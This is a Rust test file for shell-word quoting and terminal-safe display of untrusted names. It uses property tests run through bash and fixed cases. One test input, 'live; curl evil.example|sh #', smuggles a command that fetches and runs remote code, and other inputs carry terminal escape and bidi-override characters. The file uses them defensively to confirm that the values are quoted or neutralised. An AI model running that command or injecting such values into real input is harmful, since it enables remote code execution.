//! What is shown of names that others have chosen.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

use std::process::Command;

use lastbyte_link::{is_hidden, shell_word, visible};
use proptest::prelude::*;

/// Not in a byte of zero, which no argument can have.
fn words() -> impl Strategy<Value = String> {
    prop_oneof![
        "[ -~]{0,20}",
        "[a'\\\\$`\n\t\u{1b}\u{9b}\u{202e}é0-9=~*]{0,12}",
        "[^\0]{0,8}",
    ]
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(64))]

    #[test]
    fn a_shell_reads_one_word_and_a_terminal_shows_it(words in prop::collection::vec(words(), 1..9)) {
        let quoted: Vec<String> = words.iter().map(|word| shell_word(word)).collect();
        let line = format!("printf '%s\\0' {}", quoted.join(" "));
        prop_assert!(!line.contains(is_hidden), "{}", line);
        let run = Command::new("bash").args(["-c", &line]).output().unwrap();
        let all: Vec<u8> = words.iter().flat_map(|word| [word.as_bytes(), b"\0"].concat()).collect();
        prop_assert_eq!(run.stdout, all, "{}", line);
    }
}

#[test]
fn words_that_mean_nothing_to_a_shell_are_left_alone() {
    assert_eq!(
        shell_word("X25519MLKEM768/ml-dsa-65"),
        "X25519MLKEM768/ml-dsa-65"
    );
    assert_eq!(shell_word("0%,3%"), "0%,3%");
    assert_eq!(
        shell_word("live; curl evil.example|sh #"),
        "'live; curl evil.example|sh #'"
    );
    assert_eq!(shell_word(""), "''");
    assert_eq!(shell_word("=ls"), "'=ls'");
    assert_eq!(shell_word("a\u{1b}1'"), "$'a\\0331\\''");
}

#[test]
fn what_strangers_write_moves_no_cursor() {
    assert_eq!(
        visible("CN=ev\u{1b}[31mil\u{7}\nX"),
        "CN=ev\\u{1b}[31mil\\u{7}\\u{a}X"
    );
    assert_eq!(visible("a\u{202e}b\u{9b}"), "a\\u{202e}b\\u{9b}");
    assert_eq!(
        visible("\u{5d0}\u{5d1} ünïcode 🐢"),
        "\u{5d0}\u{5d1} ünïcode 🐢"
    );
    assert!(!visible("a\u{202e}b\u{9b}").contains(is_hidden));
}
